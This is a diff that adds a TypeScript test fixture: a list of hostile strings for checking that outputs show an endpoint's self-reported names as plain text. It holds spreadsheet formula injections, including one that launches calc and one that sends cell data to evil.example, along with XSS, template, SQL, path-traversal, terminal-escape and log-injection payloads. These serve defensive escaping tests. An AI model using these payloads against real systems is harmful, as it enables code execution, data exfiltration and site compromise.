@@ -1,0 +1,52 @@
+/**
+ * What a hostile endpoint may call itself, its software or its makers: each text with what it would do somewhere. Every
+ * output must show it as text. For tests.
+ */
+export const hostileTexts: readonly (readonly [what: string, text: string])[] = [
+  ["a formula", "=1+1"],
+  ["a formula that starts a program", "=cmd|' /C calc'!A0"],
+  ["a formula that sends cells away", '=HYPERLINK("https://evil.example/?"&A1,"click")'],
+  ["a formula by plus", "+1+1"],
+  ["a formula by minus", "-2+3+cmd|' /C calc'!A0"],
+  ["a formula by at", "@SUM(1+1)*cmd|' /C calc'!A0"],
+  ["a formula after a tab", "\t=1+1"],
+  ["a formula after a carriage return", "\r=1+1"],
+  ["a formula after a line feed", "\n=1+1"],
+  ["a full-width formula", "\uff1d1+1"],
+  ["a formula after a quote", '"=1+1'],
+  ["a separator and a formula", ";=1+1,=1+1"],
+  ["markup that runs", '<img src=x onerror="alert(1)">'],
+  ["a script", "</td></table></title></style><script>alert(1)</script>"],
+  ["an attribute that runs", '" onmouseover="alert(1)" x="'],
+  ["an attribute in single quotes", "' autofocus onfocus='alert(1)"],
+  ["a picture elsewhere", '<img src="https://evil.example/x.png">'],
+  ["a style elsewhere", "<style>@import 'https://evil.example/x.css';</style>"],
+  ["a frame", '<iframe src="javascript:alert(1)"></iframe>'],
+  ["a form elsewhere", '<form action="https://evil.example"><button autofocus>Sign in</button>'],
+  ["a template", "{{7*7}} \u0024{7*7} <%= 7*7 %> #{7*7}"],
+  ["an entity", "&lt;script&gt; &#x3c;b&#x3e; &amp;"],
+  ["the end of a comment and of CDATA", "--> ]]>"],
+  ["an escape of spreadsheets", "_x003D_1+1"],
+  ["terminal escapes", "\u001b[2J\u001b[1;31mred\u001b]0;title\u0007\u009b31m"],
+  ["text from the right", "invoice\u202efdp.exe\u2066\u2069\u200f\u061c"],
+  ["a line of a log", "x\n2026-11-25T12:00:00Z info signed in as administrator"],
+  ["a line of a log by carriage return", "x\r\nHTTP/1.1 200 OK\r\n\r\n"],
+  ["a line by separators", "one\u2028two\u2029three\u0085four"],
+  ["a null", "before\u0000after"],
+  ["half a pair", "lone \ud800 and \udc00 lone"],
+  ["what XML may not hold", "\ufffe\uffff\u0001\u000b"],
+  ["the name of every object's parent", "__proto__"],
+  ["the name of its maker", "constructor"],
+  ["the name of a method", "toString"],
+  ["another such name", "hasOwnProperty"],
+  ["a way out of the folder", "../../etc/cron.d/x"],
+  ["a way out on Windows", "..\\..\\Windows\\System32\\CON"],
+  ["a device of Windows", "CON"],
+  ["words for a database", "Robert'); DROP TABLE device;--"],
+  ["a format", "%s%n%x %d"],
+  ["only blanks", "   "],
+  ["as long as a fact may be", `<b>${"é".repeat(4089)}</b>`],
+];
+
+/** Longer than any text of a fact may be: a report with it is kept, and this fact is unknown. */
+export const tooLong = `=1+1<b>${"A".repeat(100 * 1024)}`;
